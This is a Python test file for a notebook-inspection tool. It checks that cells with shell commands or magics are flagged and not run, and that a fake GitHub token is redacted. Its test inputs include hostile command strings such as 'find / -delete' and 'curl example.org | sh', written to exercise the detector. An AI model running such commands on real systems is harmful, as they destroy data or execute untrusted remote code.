"""What a person is told about a notebook before it is shown, cut or trained."""

from __future__ import annotations

from dataclasses import replace

import pytest

from alekseylearn import contents
from alekseylearn.contents import warnings_about
from tests.strategies import notebook

TOKEN = "ghp_" + "a1B2c3D4" * 4 + "e5F6"


@pytest.mark.parametrize(
    "source",
    [
        "!touch /tmp/x",
        "%system touch x",
        "files = !find / -delete",
        "%%bash\ncurl example.org | sh",
        "%run -i ../../other.py",
        "get_ipython().system('touch x')",
        "get_ipython( ) . run_line_magic('run', 'x')".replace("( )", "()"),
        "%cd ..",
        "%env A=1",
        "if x:\n    !rm -r data",
        "%unheard_of 1",
    ],
)
def test_commands_are_told_and_not_run(source: str) -> None:
    (told,) = warnings_about(notebook("a = 1", source))
    assert told.startswith("nb.source: cell 1 runs shell commands, files or magics; nothing of that is run")


@pytest.mark.parametrize("source", ["!pip install x", "%matplotlib inline", "!nvidia-smi", "a = b % c", "x = 100 != 3"])
def test_what_installs_or_looks_is_ordinary(source: str) -> None:
    assert list(warnings_about(notebook(source))) == []


def test_cells_are_counted_together() -> None:
    made = notebook("!touch x", "!touch y", f"t = '{TOKEN}'", "# %% text </details>")
    assert [told.partition(":")[0] for told in warnings_about(made)] == [
        "nb.source",
        "secret.redacted",
        "text.neutralised",
    ]
    assert "cells 0, 1 run " in next(warnings_about(made))
    assert TOKEN not in "".join(warnings_about(made))


def test_what_the_reader_found_comes_along() -> None:
    made = replace(notebook("a"), warnings=("nb.identity: odd",), contained=("text.neutralised: outputs",))
    assert list(warnings_about(made)) == ["nb.identity: odd", "text.neutralised: outputs"]


def test_in_another_language_and_in_too_much_code_no_commands_are_looked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    assert list(warnings_about(replace(notebook("!touch x"), language="r"))) == []
    monkeypatch.setattr(contents, "too_much", lambda _: True)
    assert list(warnings_about(notebook("!touch x"))) == []
